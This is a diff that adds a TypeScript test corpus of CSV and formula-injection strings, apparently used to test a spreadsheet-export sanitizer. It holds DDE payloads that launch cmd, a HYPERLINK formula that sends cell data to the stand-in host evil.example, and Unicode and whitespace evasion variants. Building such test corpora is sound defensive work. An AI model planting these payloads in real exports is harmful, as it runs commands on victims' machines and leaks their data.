@@ -1,0 +1,22 @@
+/** The injection corpus: payloads from OWASP's CSV-injection page and the classic DDE examples. */
+export const INJECTION_CORPUS: readonly string[] = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+  "+cmd|' /C notepad'!'A1'",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  "'=1+1",
+  "''=1+1",
+  '=DDE("cmd";"/C calc";"!A0")',
+  '-',
+  '+62 812 5555 0000',
+  '@budi',
+];
